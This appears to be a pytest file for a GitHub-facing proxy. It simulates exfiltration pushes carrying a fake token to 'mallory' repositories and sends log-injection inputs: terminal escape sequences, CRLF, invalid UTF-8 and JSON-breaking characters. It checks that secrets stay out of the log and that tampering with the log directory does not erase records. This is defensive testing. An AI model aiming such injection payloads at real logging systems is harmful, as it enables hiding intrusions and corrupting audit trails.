"""The event log under attack: no secret gets in, and no attempt stays out."""

from __future__ import annotations

import shutil
from typing import TYPE_CHECKING

from demo.forge import Forge
from demo.proxy import Proxy
from tests.attacks.conftest import tunnel

if TYPE_CHECKING:
    from tests.attacks.conftest import Inside
    from tests.e2e.conftest import Run, StartProxy

SECRET = b"ghp_0123456789abcdefghijklmnopqrstuvwxyz01"


def test_credentials_in_every_place_stay_out_of_the_log(gateway: Run, inside: Inside) -> None:
    """A token in the path, the query, headers, the user agent, the body and the Host."""
    heads = [
        b"POST /mallory/loot?access_token=%s&private_token=%s&x=%s HTTP/1.1\r\nHost: github.com\r\n",
        b"POST /mallory/%s/x HTTP/1.1\r\nHost: github.com\r\nReferer: https://x/?t=%s\r\nCookie: s=%s\r\n",
        b"POST /mallory/loot HTTP/1.1\r\nHost: github.com\r\nUser-Agent: git/%s\r\nAuthorization: %s\r\nX: %s\r\n",
        b"POST /mallory/loot HTTP/1.1\r\nHost: %s\r\nUpgrade: %s\r\nContent-Type: %s\r\n",
    ]
    for head in heads:
        with inside("github.com") as raw:
            raw.send(head % (SECRET, SECRET, SECRET) + b"Content-Length: %d\r\n\r\n" % len(SECRET) + SECRET)
            assert raw.answer().status == 403
    assert len(gateway.events("decision")) == len(heads)
    assert SECRET.decode() not in str(gateway.events()) + gateway.stderr


def test_no_bytes_in_a_request_keep_it_out_of_the_log(gateway: Run, inside: Inside, forge: Forge) -> None:
    """Invalid UTF-8, escapes of terminals and JSON, and line breaks: one event each, on one line each."""
    paths = [b"/mallory/\xff\xfe", b"/mallory/%0a%0d%1b[2J", b'/mallory/"}\\', b"/mallory/\xe2\x80\xa8\xed\xa0\x80"]
    for path in paths:
        with inside("github.com") as raw:
            raw.send(
                b"POST %s HTTP/1.1\r\nHost: github.com\r\nUser-Agent: \xff\x1b[31m\r\nContent-Length: 1\r\n\r\nx" % path
            )
            assert raw.answer().status == 403
    assert len(gateway.events("decision")) == len(paths)
    assert not any(b"\x1b" in file.read_bytes() for file in gateway.events_directory.glob("*.jsonl"))
    forge.settle()
    assert forge.requests() == []


def test_a_log_directory_taken_away_is_made_again_or_blocks(proxy: StartProxy, forge: Forge) -> None:
    """Removed, renamed, and replaced by a file: each refusal stands in the log of now, or writes are blocked."""
    run = proxy()

    def attempt(repository: bytes) -> int:
        with tunnel(run, "github.com") as raw:
            raw.send(
                b"POST /%s.git/git-receive-pack HTTP/1.1\r\nHost: github.com\r\nContent-Length: 4\r\n\r\n0000"
                % repository
            )
            return raw.answer().status

    attempt(b"mallory/first")
    shutil.rmtree(run.events_directory)
    attempt(b"mallory/second")
    assert "mallory/second" in str(Proxy.events(run))
    run.events_directory.rename(run.events_directory.with_name("elsewhere"))
    attempt(b"mallory/third")
    assert "mallory/third" in str(Proxy.events(run))
    shutil.rmtree(run.events_directory)
    run.events_directory.write_text("in the way")
    forge.settle()
    forge.clear()
    attempt(b"acme/api")
    forge.settle()
    assert forge.requests() == []
    run.events_directory.unlink()
    attempt(b"acme/api")
    forge.settle()
    assert len(forge.requests()) == 1
